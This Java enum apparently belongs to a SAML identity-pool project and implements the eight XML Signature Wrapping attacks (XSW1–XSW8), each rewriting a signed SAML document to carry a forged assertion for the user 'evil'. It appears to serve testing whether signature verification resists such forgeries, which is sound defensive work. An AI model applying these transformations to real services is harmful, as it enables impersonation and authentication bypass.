package dev.keypool.identitypools.saml;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.w3c.dom.NodeList;

/**
 * XML signature wrapping, as numbered by SAML Raider after Somorovsky et al., "On Breaking SAML: Be Whoever You Want to
 * Be" (USENIX Security 2012). Each moves what was signed to where a verifier still finds it by its ID, and puts an
 * assertion about {@code evil} where a reader looks.
 */
enum Wrapping {
    /** Of a signed response: the original inside the signature (in an Object, where it is valid XML signature), in an evil response. */
    XSW1 {
        @Override
        void apply(Document document, String evilId) {
            Element root = document.getDocumentElement();
            Element signature = signature(root);
            Element original = withoutSignature(root);
            evil(root, "evil-response", evilId);
            inside(signature, "ds:Object", original);
        }
    },
    /** Of a signed response: the original before the signature, in an evil response. */
    XSW2 {
        @Override
        void apply(Document document, String evilId) {
            Element root = document.getDocumentElement();
            Element original = withoutSignature(root);
            evil(root, "evil-response", evilId);
            root.insertBefore(original, signature(root));
        }
    },
    /** An evil assertion before the original. */
    XSW3 {
        @Override
        void apply(Document document, String evilId) {
            Element original = assertion(document);
            original.getParentNode().insertBefore(evil(withoutSignature(original), evilId), original);
        }
    },
    /** The original inside an evil assertion. */
    XSW4 {
        @Override
        void apply(Document document, String evilId) {
            Element original = assertion(document);
            Element evil = evil(withoutSignature(original), evilId);
            original.getParentNode().replaceChild(evil, original);
            evil.appendChild(original);
        }
    },
    /** The signed copy changed, the original without its signature at the end. */
    XSW5 {
        @Override
        void apply(Document document, String evilId) {
            Element evil = assertion(document);
            Element original = withoutSignature(evil);
            evil(evil, evilId);
            document.getDocumentElement().appendChild(original);
        }
    },
    /** The signed copy changed, the original without its signature inside that signature: in its KeyInfo, which may hold anything. */
    XSW6 {
        @Override
        void apply(Document document, String evilId) {
            Element evil = assertion(document);
            Element original = withoutSignature(evil);
            evil(evil, evilId);
            inside(signature(evil), "ds:KeyInfo", original);
        }
    },
    /** An evil assertion inside Extensions, which may hold anything. */
    XSW7 {
        @Override
        void apply(Document document, String evilId) {
            Element original = assertion(document);
            Element extensions = document.createElementNS(Namespaces.PROTOCOL, "samlp:Extensions");
            extensions.appendChild(evil(withoutSignature(original), evilId));
            original.getParentNode().insertBefore(extensions, original);
        }
    },
    /** The original without its signature in an Object of the signature, which may hold anything; the signed copy changed. */
    XSW8 {
        @Override
        void apply(Document document, String evilId) {
            Element evil = assertion(document);
            Element original = withoutSignature(evil);
            evil(evil, evilId);
            inside(signature(evil), "ds:Object", original);
        }
    };

    /** Changes a document with a signed assertion, for the first two a signed response. */
    abstract void apply(Document document, String evilId);

    boolean ofResponses() {
        return this == XSW1 || this == XSW2;
    }

    static Element assertion(Document document) {
        return (Element) document.getElementsByTagNameNS(Namespaces.ASSERTION, "Assertion").item(0);
    }

    private static void inside(Element signature, String name, Element original) {
        Element holder = signature.getOwnerDocument().createElementNS(Namespaces.SIGNATURE, name);
        holder.appendChild(original);
        signature.appendChild(holder);
    }

    private static Element withoutSignature(Element element) {
        Element copy = (Element) element.cloneNode(true);
        copy.removeChild(signature(copy));
        return copy;
    }

    private static Element signature(Element parent) {
        for (Node child = parent.getFirstChild(); child != null; child = child.getNextSibling()) {
            if ("Signature".equals(child.getLocalName())) {
                return (Element) child;
            }
        }
        throw new IllegalStateException("not signed");
    }

    private static void evil(Element response, String id, String evilId) {
        response.setAttribute("ID", id);
        evil((Element) response.getElementsByTagNameNS(Namespaces.ASSERTION, "Assertion").item(0), evilId);
    }

    private static Element evil(Element assertion, String id) {
        assertion.setAttribute("ID", id);
        NodeList names = assertion.getElementsByTagNameNS(Namespaces.ASSERTION, "NameID");
        names.item(0).setTextContent("evil");
        return assertion;
    }
}
